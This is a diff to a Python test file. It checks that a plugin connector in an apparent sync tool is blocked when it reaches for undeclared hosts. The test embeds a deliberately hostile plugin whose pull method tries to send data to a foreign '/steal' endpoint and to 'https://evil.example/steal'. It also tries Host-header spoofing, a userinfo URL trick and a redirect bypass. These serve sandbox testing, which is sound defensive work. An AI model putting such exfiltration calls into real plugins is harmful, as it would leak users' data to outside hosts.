@@ -19,7 +19,6 @@ if TYPE_CHECKING:
 pytestmark = [pytest.mark.sockets]
 
 TOKEN = "planted-token-7c1d"
-UNDECLARED = "mine wanted to reach "
 BALANCE = {
     "seen", "new", "changed", "unchanged", "removed", "skipped", "failed", "seconds",
 }  # fmt: skip
@@ -229,48 +228,64 @@ def mine_as(name: str) -> str:
     return MANIFEST.replace('id = "mine"', f'id = "{name}"')
 
 
-@pytest.mark.parametrize(
-    ("reach", "told"),
-    [
-        ('self.session.get("FOREIGN/steal")', UNDECLARED),
-        ('self.session.get("FOREIGN/steal", headers={"Host": "OWN_HOST"})', "“mine” stopped"),
-        ('self.session.post("FOREIGN/steal", json={"a": "b"})', UNDECLARED),
-        ('self.session.get("http://OWN_HOST@FOREIGN_HOST/steal")', "The address"),
-        ('b"".join(self.session.stream("FOREIGN/steal", limit=9))', UNDECLARED),
-        ('self.session.get("https://evil.example/steal")', UNDECLARED),
-        ('self.session.get("OWN/pages")', UNDECLARED),  # and the server sends it on
-    ],
-)
-def test_a_plugin_that_reaches_for_an_undeclared_host_is_stopped_and_nothing_is_sent(
-    program: Program, sites: tuple[Site, Site], reach: str, told: str
-) -> None:
-    own, foreign = sites
-    own.moved_to = foreign.base + "/steal"
-    for name, value in (
-        ("FOREIGN_HOST", foreign.base.removeprefix("http://")),
-        ("OWN_HOST", own.base.removeprefix("http://")),
-        ("FOREIGN", foreign.base),
-        ("OWN", own.base),
-    ):
-        reach = reach.replace(name, value)
-    drop(
-        program,
-        "mine",
-        f"""
-from jolidrive.api import Connector, Identity, Page
+HOSTILE = """
+from jolidrive.api import Connector, Identity, Item, Kind, Page
 
 class Mine(Connector):
     def identify(self):
         return Identity(key="me", label="Maya")
 
     def pull(self, cursor):
-        {reach}
-        yield Page()
-""",
-    )
+        tries = (
+            lambda: self.session.get("FOREIGN/steal"),
+            lambda: self.session.get("FOREIGN/steal", headers={"Host": "OWN_HOST"}),
+            lambda: self.session.post("FOREIGN/steal", json={"a": "b"}),
+            lambda: self.session.get("http://OWN_HOST@FOREIGN_HOST/steal"),
+            lambda: b"".join(self.session.stream("FOREIGN/steal", limit=9)),
+            lambda: self.session.get("https://evil.example/steal"),
+            lambda: self.session.get("OWN/pages"),  # and the server sends it on
+        )
+        for number, reach in enumerate(tries):
+            try:
+                reach()
+            except Exception as trouble:
+                title = type(trouble).__name__
+                yield Page(items=(Item(key=str(number), kind=Kind.LINK, title=title),))
+        LAST
+"""
+
+
+def test_a_plugin_that_reaches_for_an_undeclared_host_is_stopped_and_nothing_is_sent(
+    program: Program, sites: tuple[Site, Site]
+) -> None:
+    own, foreign = sites
+    own.moved_to = foreign.base + "/steal"
+    code = HOSTILE
+    for name, value in (
+        ("FOREIGN_HOST", foreign.base.removeprefix("http://")),
+        ("OWN_HOST", own.base.removeprefix("http://")),
+        ("FOREIGN", foreign.base),
+        ("OWN", own.base),
+    ):
+        code = code.replace(name, value)
+    drop(program, "mine", code.replace("LAST", ""))
     program("plugin", "approve", "mine")
-    connect(program, own, code=1)
-    assert program.err.splitlines()[-1].startswith(told)
+    connect(program, own)
+    found = program.json("search", "", "--sort", "title", "--limit", "99")["hits"]
+    assert {hit["key"]: hit["title"] for hit in found} == {
+        "0": "HostNotAllowedError",
+        "1": "ValueError",  # a connector names no host in a header
+        "2": "HostNotAllowedError",
+        "3": "InsecureAddressError",
+        "4": "HostNotAllowedError",
+        "5": "HostNotAllowedError",
+        "6": "HostNotAllowedError",
+    }
+    drop(program, "mine", code.replace("LAST", "tries[0]()"))
+    program("plugin", "approve", "mine")
+    program("sync", code=1)
+    assert "mine wanted to reach " in program.err
+    assert "Nothing was sent" in program.err
     assert foreign.asked == []
     assert TOKEN not in program.err
 
